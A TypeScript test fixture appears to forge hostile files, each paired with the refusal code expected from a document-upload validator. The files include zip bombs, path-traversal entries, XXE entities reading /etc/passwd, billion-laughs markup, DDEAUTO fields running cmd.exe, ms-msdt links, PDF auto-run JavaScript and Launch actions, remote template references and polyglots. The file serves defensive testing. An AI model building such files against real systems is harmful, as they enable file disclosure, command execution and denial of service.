import { type ForgedEntry, forgeArchive } from '../archive/forge-archive.ts'
import type { UnreadableFileCode } from '../unreadable-file.ts'
import {
  forgeCompound,
  forgeSheets,
  forgeWord,
  forgedBody,
  forgedParagraph,
  forgedRelation,
} from './forge-office.ts'
import { forgePdf } from './forge-pdf.ts'
import { forgeJpeg, forgePng } from './forge-picture.ts'

/** What it is, the word with which it is refused, and how it is made. */
export type HostileFile = readonly [what: string, code: UnreadableFileCode, make: () => Buffer]

const body = forgedBody(forgedParagraph('Họp giao ban'))
const word = (...parts: ForgedEntry[]) => forgeWord(body, parts)
const part = (name: string, content: string | Buffer, more: Partial<ForgedEntry> = {}): ForgedEntry => ({
  name,
  content,
  ...more,
})
const related = (type: string, target: string, external = true) =>
  word(part('word/_rels/document.xml.rels', forgedRelation(type, target, external)))
const field = (content: string) =>
  forgeWord(forgedBody(`<w:p><w:r><w:instrText>${content}</w:instrText></w:r></w:p>`))
const typed = (kind: string) =>
  forgeWord(
    body,
    [part('word/media/image9.jpg', 'x')],
    `<Override PartName="/word/media/image9.jpg" ContentType="${kind}"/>`,
  )
const spaces = (size: number) => Buffer.alloc(size, 0x20)
const laughs = `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`).join('')}]>`
const outside = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')
const ends = (bytes: Buffer, more: string) => Buffer.concat([bytes, Buffer.from(more, 'latin1')])
const sheet = (...parts: ForgedEntry[]) => forgeSheets(parts)
const rtf = (content: string) => Buffer.from(`{\\rtf1\\ansi ${content}}`)
const archives: HostileFile[] = [
  ['a bomb of spaces', 'suspicious_archive', () => forgeWord(spaces(30_000_000))],
  ['a bomb beside the text', 'suspicious_archive', () => word(part('word/media/a.bin', spaces(30_000_000)))],
  [
    'many bombs, each below the ratio',
    'too_large',
    () => word(...Array.from({ length: 45 }, (_, at) => part(`word/media/${at}.bin`, spaces(4_900_000)))),
  ],
  [
    'a part that says it is smaller',
    'damaged',
    () => word(part('word/a.bin', spaces(1_000_000), { declaredSize: 10 })),
  ],
  ['a part that says it is larger', 'damaged', () => word(part('word/a.bin', 'a', { declaredSize: 1_000 }))],
  [
    'entries that overlap',
    'suspicious_archive',
    () => word(part('a', 'a'), part('b', 'a', { overlapping: true })),
  ],
  ['the same name twice', 'suspicious_archive', () => word(part('a', 'a'), part('a', 'b'))],
  ['a way up', 'suspicious_archive', () => word(part('../../etc/cron.d/a', 'a'))],
  ['a way up written for Windows', 'suspicious_archive', () => word(part('..\\..\\a', 'a'))],
  ['an absolute name', 'suspicious_archive', () => word(part('/etc/cron.d/a', 'a'))],
  ['a drive', 'suspicious_archive', () => word(part('C:/a', 'a'))],
  [
    'a symbolic link',
    'suspicious_archive',
    () => word(part('word/a', '/etc/passwd', { unixMode: 0o120777 })),
  ],
  ['an encrypted entry', 'encrypted', () => word(part('a', 'x', { flags: 1 }))],
  [
    'three thousand entries',
    'too_many_entries',
    () => word(...Array.from({ length: 3_000 }, (_, at) => part(`word/${at}`, '', { stored: true }))),
  ],
  ['half a document', 'damaged', () => word().subarray(0, 300)],
  ['a document without its end', 'damaged', () => word().subarray(0, -10)],
  [
    'an archive of archives of archives',
    'embedded_file',
    () => word(part('word/embeddings/a.docx', forgeWord(body, [part('word/embeddings/b.docx', word())]))),
  ],
  [
    'a bomb in a document within',
    'suspicious_archive',
    () => word(part('word/embeddings/a.xlsx', forgeWord(spaces(30_000_000)))),
  ],
  ['an archive that is no document', 'not_this_kind', () => forgeArchive([part('a.txt', 'a')])],
]

const markup: HostileFile[] = [
  ['a billion laughs', 'suspicious_archive', () => forgeWord(`${laughs}${body}`)],
  ['an entity from outside', 'suspicious_archive', () => forgeWord(`${outside}${body}`)],
  [
    'an entity from outside in UTF-16',
    'suspicious_archive',
    () => forgeWord(utf16(`<?xml version="1.0" encoding="UTF-16"?>${outside}${body}`)),
  ],
  [
    'an entity behind a long comment',
    'suspicious_archive',
    () => forgeWord(`<!--${'a'.repeat(200_000)}-->${outside}${body}`),
  ],
  [
    'an entity in the styles',
    'suspicious_archive',
    () => word(part('word/styles.xml', `${outside}<w:styles/>`)),
  ],
  [
    'an entity in the relations',
    'suspicious_archive',
    () => word(part('_rels/.rels', `${outside}<Relationships/>`)),
  ],
  [
    'an entity in data of an add-in',
    'suspicious_archive',
    () => word(part('customXml/item1.xml', `${outside}<a/>`)),
  ],
  [
    'an entity in a workbook',
    'suspicious_archive',
    () => sheet(part('xl/sharedStrings.xml', `${laughs}<sst><si><t>&j;</t></si></sst>`)),
  ],
  ['elements without an end', 'damaged', () => forgeWord('<w:document><w:body>')],
  ['bytes that are no text', 'damaged', () => forgeWord(Buffer.from('3c773a61fffe', 'hex'))],
]

const active: HostileFile[] = [
  ['macros', 'macros', () => word(part('word/vbaProject.bin', 'x'))],
  ['macros under another name', 'macros', () => typed('application/vnd.ms-office.vbaProject')],
  ['macros by a relation', 'macros', () => related('vbaProject', 'media/image9.jpg', false)],
  [
    'a macro document called .docx',
    'macros',
    () => typed('application/vnd.ms-word.document.macroEnabled.main+xml'),
  ],
  ['a sheet of old macros', 'macros', () => sheet(part('xl/macrosheets/sheet1.xml', '<a/>'))],
  ['macros of OpenDocument', 'macros', () => word(part('Basic/Standard/a.xml', '<a/>'))],
  ['scripts of OpenDocument', 'macros', () => word(part('Scripts/python/a.py', 'x'))],
  ['a control', 'macros', () => typed('application/vnd.ms-office.activeX+xml')],
  ['a control by its name', 'active_content', () => word(part('word/activeX/activeX1.bin', 'x'))],
  ['a control by a relation', 'active_content', () => related('control', 'a.xml', false)],
  ['an object', 'embedded_file', () => related('oleObject', 'embeddings/a.bin', false)],
  ['an object from elsewhere', 'embedded_file', () => related('oleObject', 'https://a.example/a')],
  [
    'a program called a picture',
    'embedded_file',
    () => word(part('word/media/a.png', Buffer.from('4d5a9000', 'hex'))),
  ],
  [
    'a shortcut called a picture',
    'embedded_file',
    () => word(part('word/media/a.png', Buffer.from('4c00000001140200', 'hex'))),
  ],
  [
    'an old document within',
    'embedded_file',
    () => word(part('word/embeddings/a.bin', forgeCompound('WordDocument'))),
  ],
  [
    'a field that runs a command',
    'active_content',
    () => field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
  ],
  [
    'a command broken into pieces',
    'active_content',
    () =>
      forgeWord(
        forgedBody(
          '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r></w:p>',
        ),
      ),
  ],
  [
    'a simple field that runs a command',
    'active_content',
    () => forgeWord(forgedBody('<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>')),
  ],
  [
    'a live link in a workbook',
    'active_content',
    () =>
      sheet(
        part(
          'xl/externalLinks/externalLink1.xml',
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
        ),
      ),
  ],
  ['a link that is a script', 'active_content', () => related('hyperlink', 'javascript:alert(1)')],
  [
    'a link to a program of this machine',
    'active_content',
    () => related('hyperlink', 'file:///C:/Windows/System32/calc.exe'),
  ],
  [
    'a link to a helper of Windows',
    'active_content',
    () => related('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
  ],
]

const reaching: HostileFile[] = [
  [
    'a template from the web',
    'reaches_outside',
    () => related('attachedTemplate', 'https://a.example/a.dotm'),
  ],
  [
    'a template from a share',
    'reaches_outside',
    () => related('attachedTemplate', '\\\\a.example\\share\\a.dotm'),
  ],
  [
    'a template from a share by file',
    'reaches_outside',
    () => related('attachedTemplate', 'file://a.example/share/a.dotm'),
  ],
  ['a picture from the web', 'reaches_outside', () => related('image', 'http://a.example/a.png')],
  ['a frame from the web', 'reaches_outside', () => related('frame', 'http://a.example/a.htm')],
  [
    'a page in the clothes of a template',
    'reaches_outside',
    () => related('attachedTemplate', 'mhtml:http://a.example/a!x'),
  ],
  [
    'a field that fetches a picture',
    'reaches_outside',
    () => field('INCLUDEPICTURE "https://a.example/a.png"'),
  ],
  ['a field that fetches a text', 'reaches_outside', () => field('INCLUDETEXT \\\\a.example\\a.docx')],
]

const portable: HostileFile[] = [
  [
    'a PDF with a script',
    'active_content',
    () => forgePdf({ catalogue: '/OpenAction<</S/JavaScript/JS(app.alert(1))>>' }),
  ],
  [
    'a script under a masked name',
    'active_content',
    () => forgePdf({ catalogue: '/OpenAction<</S/J#61vaScr#69pt/JS(a)>>' }),
  ],
  ['a script in a compressed table', 'active_content', () => forgePdf({ packed: '<</S/JavaScript/JS(a)>>' })],
  [
    'a table packed in an odd way',
    'active_content',
    () =>
      forgePdf({
        objects: [
          '<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]/N 1/First 4/Length 4>>stream\n00>\nendstream',
        ],
      }),
  ],
  [
    'a PDF that starts a program',
    'active_content',
    () => forgePdf({ catalogue: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
  ],
  [
    'a PDF that sends a form',
    'active_content',
    () => forgePdf({ objects: ['<</S/SubmitForm/F(https://a.example)>>'] }),
  ],
  ['a PDF with a film player', 'active_content', () => forgePdf({ objects: ['<</Subtype/RichMedia>>'] })],
  [
    'a PDF with forms of scripts',
    'active_content',
    () => forgePdf({ catalogue: '/AcroForm<</XFA [1 0 R]>>' }),
  ],
  [
    'a PDF with a file in it',
    'embedded_file',
    () => forgePdf({ catalogue: '/Names<</EmbeddedFiles 9 0 R>>' }),
  ],
  [
    'a PDF with a file pinned to a page',
    'embedded_file',
    () => forgePdf({ objects: ['<</Subtype/FileAttachment>>'] }),
  ],
  ['a PDF with a password', 'encrypted', () => forgePdf({ trailer: '/Encrypt 9 0 R' })],
  ['a PDF of 10,000 pages', 'too_many_pages', () => forgePdf({ copies: 10_000 })],
  ['half a PDF', 'damaged', () => forgePdf({ pages: ['a', 'b', 'c'] }).subarray(0, 400)],
  ['nothing but the head of a PDF', 'damaged', () => Buffer.from('%PDF-1.7\n%%EOF')],
  [
    'a page in the clothes of a PDF',
    'two_kinds',
    () => Buffer.from('%PDF-1.7\n<html><script>alert(1)</script>\n%%EOF'),
  ],
  ['a PDF that is an archive too', 'two_kinds', () => Buffer.concat([forgePdf(), word()])],
]

const others: HostileFile[] = [
  [
    'an archive that is a PDF too',
    'two_kinds',
    () => forgeArchive([part('a', '%PDF-1.7\n', { stored: true })]),
  ],
  ['a rich text with an object', 'embedded_file', () => rtf('{\\object\\objemb{\\*\\objdata 0105}}')],
  ['a rich text with a broken control word', 'embedded_file', () => rtf('{\\obj\ndata 0105}')],
  ['a rich text with a template', 'reaches_outside', () => rtf('{\\*\\template http://a.example/a.dotm}')],
  ['a rich text that runs a command', 'active_content', () => rtf('{\\field{\\*\\fldinst DDEAUTO cmd}}')],
  ['a rich text without its end', 'damaged', () => rtf('Họp').subarray(0, -1)],
  ['an old document with macros', 'macros', () => forgeCompound('WordDocument', '_VBA_PROJECT')],
  ['a document with a password', 'encrypted', () => forgeCompound('EncryptedPackage')],
  [
    'an old document with a program',
    'embedded_file',
    () => forgeCompound('WordDocument', '\u0001Ole10Native'),
  ],
  ['an installer', 'not_this_kind', () => forgeCompound('Property')],
]

const pictures: HostileFile[] = [
  ['a picture of 50,000 by 50,000', 'too_many_pixels', () => forgePng(50_000, 50_000)],
  ['a photograph of 60,000 by 60,000', 'too_many_pixels', () => forgeJpeg(60_000, 60_000)],
  ['a picture without a size', 'damaged', () => forgePng(0, 0)],
  ['a picture cut off', 'damaged', () => forgePng(10, 10).subarray(0, 20)],
  ['a photograph without a picture', 'damaged', () => Buffer.from('ffd8ffe000104a46', 'hex')],
  ['a picture that is an archive too', 'two_kinds', () => Buffer.concat([forgePng(2, 2), word()])],
  [
    'a picture that is a page too',
    'two_kinds',
    () => ends(Buffer.from('GIF89a\u0001\0\u0001\0', 'latin1'), '<script>alert(1)</script>'),
  ],
  ['a picture that is a PDF too', 'two_kinds', () => ends(forgePng(2, 2), '%PDF-1.7 %%EOF')],
]

/** Documents that are refused, by the part of them that is hostile. */
export const hostileDocuments: readonly HostileFile[] = [
  ...archives,
  ...markup,
  ...active,
  ...reaching,
  ...portable,
  ...others,
]
export const hostilePictures: readonly HostileFile[] = pictures
